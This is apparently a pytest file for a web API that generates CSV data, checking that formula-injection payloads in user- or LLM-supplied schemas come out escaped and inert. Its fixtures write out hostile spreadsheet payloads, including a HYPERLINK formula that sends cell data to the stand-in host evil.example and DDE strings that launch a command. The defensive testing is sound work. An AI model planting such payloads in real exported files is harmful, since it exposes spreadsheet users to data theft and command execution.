"""CSV formula injection end to end through the API: categories, patterns and column names that start with a
formula trigger give cells a spreadsheet will not run, whether the schema came from a user or an LLM; the file
reads back with exactly one header and N rows."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from .conftest import GENERATE, FakeLLM, column, good_with, llm_app, openai_reply

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=1+1\n"quoted",\r\nnext', "plain"]
ROWS = 400


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_inert(table: list[list[str]], text_columns: list[int]) -> None:
    for row in table[1:]:
        for index in text_columns:
            cell = row[index]
            assert not cell.startswith(TRIGGERS), repr(cell)


HOSTILE_SCHEMA = {"name": "hostile", "columns": [
    {"name": "category", "provider": "random_element", "args": {"elements": PAYLOADS}},
    {"name": "pattern_eq", "provider": "bothify", "args": {"text": "=SUM(##)+??"}},
    {"name": "pattern_plus", "provider": "numerify", "args": {"text": "+1-###-###"}},
    {"name": "pattern_minus", "provider": "bothify", "args": {"text": "-##??"}},
    {"name": "pattern_at", "provider": "bothify", "args": {"text": "@##"}},
    {"name": "pattern_tab", "provider": "bothify", "args": {"text": "\t=##"}},
    {"name": "pattern_cr", "provider": "bothify", "args": {"text": "\r=##"}},
    {"name": "=cmd|' /C calc'!A0", "provider": "name"},
    {"name": "+header", "provider": "name"},
    {"name": "-header", "provider": "name"},
    {"name": "@header", "provider": "name"},
    {"name": "negative", "provider": "random_int", "args": {"min": -1000, "max": -1}},
    {"name": "amount", "provider": "pyfloat", "args": {"min_value": -50, "max_value": -1, "right_digits": 2}},
]}


def test_a_hostile_schema_gives_inert_cells_and_exact_rows(client: TestClient) -> None:
    response = client.post(GENERATE, json={"schema": HOSTILE_SCHEMA, "rows": ROWS, "seed": 3})
    assert response.status_code == 200, response.text
    table = read(response.content)
    assert len(table) == ROWS + 1
    assert all(len(row) == len(HOSTILE_SCHEMA["columns"]) for row in table)
    header = table[0]
    assert not any(name.startswith(TRIGGERS) for name in header)
    assert header[7] == "'=cmd|' /C calc'!A0" and header[8:11] == ["'+header", "'-header", "'@header"]
    assert_inert(table, list(range(11)))
    # Every payload came through (escaped), the multi-line one in one cell; numbers stay numbers.
    categories = {row[0] for row in table[1:]}
    assert "'" + PAYLOADS[0] in categories and "'" + PAYLOADS[6] in categories and "plain" in categories
    assert all(int(row[11]) < 0 and float(row[12]) < 0 for row in table[1:])


def test_raw_turns_the_escaping_off_on_request(client: TestClient) -> None:
    response = client.post(GENERATE, json={"schema": HOSTILE_SCHEMA, "rows": ROWS, "seed": 3, "raw": True})
    table = read(response.content)
    assert len(table) == ROWS + 1
    assert table[0][7] == "=cmd|' /C calc'!A0"
    assert {row[0] for row in table[1:]} <= set(PAYLOADS)


@pytest.mark.parametrize("name", ["\tname", "\rname", "name\n=1+1", "a\x00b"])
def test_column_names_with_control_characters_are_refused(client: TestClient, name: str) -> None:
    schema = {"columns": [{"name": name, "provider": "name"}]}
    response = client.post(GENERATE, json={"schema": schema, "rows": 5})
    assert response.status_code == 422 and response.json()["error"] == "invalid_schema"


def test_an_llm_answer_with_formulas_gives_inert_cells(tmp_path) -> None:
    answer = good_with(
        column("=HYPERLINK(\"x\")", "random_element", [{"key": "elements", "value": PAYLOADS}]),
        column("@code", "bothify", [{"key": "text", "value": "+##-??"}]),
        column("-dash", "bothify", [{"key": "text", "value": "\t=##"}]),
    )
    with llm_app(tmp_path, FakeLLM(openai_reply(answer))) as client:
        response = client.post(GENERATE, json={"description": "orders with formulas", "rows": ROWS, "seed": 9})
    assert response.status_code == 200, response.text
    table = read(response.content)
    assert len(table) == ROWS + 1
    assert not any(name.startswith(TRIGGERS) for name in table[0])
    assert_inert(table, list(range(len(table[0]))))
